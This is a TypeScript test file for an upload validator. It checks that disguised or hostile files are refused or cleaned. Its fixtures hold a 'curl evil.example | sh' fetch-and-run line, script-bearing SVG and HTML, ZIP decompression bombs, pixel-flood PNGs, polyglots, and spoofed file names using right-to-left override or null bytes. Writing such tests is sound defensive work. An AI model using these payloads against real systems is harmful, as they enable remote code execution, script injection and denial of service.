import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { checkFile } from './files'
import { inPictureTurn } from './picture-turns'
import { squarePicture } from './pictures'

const plain = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3366aa' } })
const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(1)</script></svg>'
const html = '<!doctype html><script>alert(1)</script>'
const shell = '#!/bin/sh\ncurl evil.example | sh\n'

/** A part of a PNG. Nobody who reads its head alone looks at its sum. */
function chunk(name: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, Buffer.from(name, 'latin1'), data, Buffer.alloc(4)])
}

/** A PNG of a few bytes that says it is so large, with lines of nothing that unpack to as much as is asked. */
function hugePng(side: number, unpacked = 1_000): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([8, 2, 0, 0, 0], 8)
  const lines = chunk('IDAT', deflateSync(Buffer.alloc(unpacked)))
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([start, chunk('IHDR', head), lines, chunk('IEND', Buffer.alloc(0))])
}

/** A ZIP archive with one file: forty megabytes of nothing in forty kilobytes. */
function bomb(name: string): Buffer {
  const data = deflateRawSync(Buffer.alloc(40 * 1024 * 1024))
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(data.length, 18)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name), data])
}

const jpeg = await plain(400, 300).jpeg().toBuffer()
const png = await plain(400, 300).png({ compressionLevel: 0 }).toBuffer()
const gif = await plain(400, 300).gif().toBuffer()
const tiff = await plain(400, 300).tiff().toBuffer()

test.each<[string, string, Buffer, string]>([
  ['a script', 'photo.png', Buffer.from(shell), 'not-what-it-says'],
  ['a page', 'photo.jpg', Buffer.from(html), 'not-what-it-says'],
  ['a drawing with a script', 'photo.png', Buffer.from(svg), 'not-what-it-says'],
  [
    'a drawing with a script that begins like a PNG',
    'a.png',
    Buffer.concat([png.subarray(0, 8), Buffer.from(svg)]),
    'not-what-it-says',
  ],
  ['a film of pictures', 'photo.png', gif, 'not-what-it-says'],
  ['a picture of another kind', 'photo.webp', tiff, 'not-what-it-says'],
  ['half a PNG', 'photo.png', png.subarray(0, png.length / 2), 'broken-picture'],
  ['half a JPEG', 'photo.jpg', jpeg.subarray(0, jpeg.length / 2), 'broken-picture'],
  ['a PNG of 30,000 times 30,000', 'photo.png', hugePng(30_000), 'broken-picture'],
  ['a PNG of two thousand million pixels a side', 'photo.png', hugePng(0x7fffffff), 'not-what-it-says'],
  ['an archive that unpacks to a thousand times as much', 'slides.pdf', bomb('a.txt'), 'not-what-it-says'],
  ['the same, called slides', 'slides.pptx', bomb('a.txt'), 'not-what-it-says'],
  ['an archive of programs', 'slides.odp', bomb('META-INF/run.class'), 'not-what-it-says'],
  ['a PDF that is called a picture', 'photo.png', Buffer.from('%PDF-1.7\n'), 'not-what-it-says'],
  ['a picture whose name is turned around', 'gnp.\u202Eexe', png, 'unknown-kind'],
  ['a program that is called twice', 'photo.png.exe', png, 'unknown-kind'],
  ['a name that ends in a zero', 'photo.exe\u0000.png\u0000', png, 'unknown-kind'],
])('%s is refused as a file (%s)', async (_, name, bytes, reason) => {
  expect(await checkFile(bytes, name)).toEqual({ ok: false, reason })
})

test.each<[string, Buffer, string]>([
  ['a script', Buffer.from(shell), 'not-a-picture'],
  ['a drawing with a script', Buffer.from(svg), 'not-a-picture'],
  ['half a JPEG', jpeg.subarray(0, jpeg.length / 2), 'not-a-picture'],
  ['a PNG of 30,000 times 30,000', hugePng(30_000), 'too-many-pixels'],
  ['an archive that unpacks to a thousand times as much', bomb('a.txt'), 'not-a-picture'],
])('%s is refused as a face', async (_, bytes, reason) => {
  expect(await squarePicture(bytes, [192])).toEqual({ ok: false, reason })
})

test('what hangs behind a picture, or hides in it, is not there any more', async () => {
  const hidden = [Buffer.from(html), bomb('evil.jar'), Buffer.from('%PDF-1.7\n')]
  for (const more of hidden)
    for (const [name, picture] of [
      ['a.png', png],
      ['a.jpg', jpeg],
    ] as const) {
      const made = await checkFile(Buffer.concat([picture, more]), name)
      expect(made.ok && made.bytes.includes(more)).toBe(false)
      expect(made.ok && (await sharp(made.bytes).metadata()).width).toBe(400)
    }
  const talking = await plain(400, 300)
    .withExif({ IFD0: { ImageDescription: html } })
    .jpeg()
    .toBuffer()
  expect(talking.includes('alert(1)')).toBe(true)
  const made = await checkFile(talking, 'a.jpg')
  expect(made.ok && made.bytes.includes('alert(1)')).toBe(false)
})

test('an archive that is called slides and has their parts is kept as it is, and unpacked by nobody', async () => {
  const slides = Buffer.concat([bomb('[Content_Types].xml'), Buffer.from('ppt/presentation.xml')])
  const before = process.memoryUsage().rss
  const kept = await checkFile(slides, 'slides.pptx')
  expect(kept.ok && kept.bytes.equals(slides)).toBe(true)
  expect(process.memoryUsage().rss - before).toBeLessThan(30 * 1024 * 1024)
})

test('pictures are unpacked one after another, and one that fails holds up nobody', async () => {
  let [running, most] = [0, 0]
  const work = (fails: boolean) => async () => {
    most = Math.max(most, ++running)
    await plain(20, 20).png().toBuffer()
    running--
    if (fails) throw new Error('Broken')
  }
  const outcomes = await Promise.allSettled([true, false, true, false].map((fails) => inPictureTurn(work(fails))))
  expect(outcomes.map(({ status }) => status)).toEqual(['rejected', 'fulfilled', 'rejected', 'fulfilled'])
  expect(most).toBe(1)
})
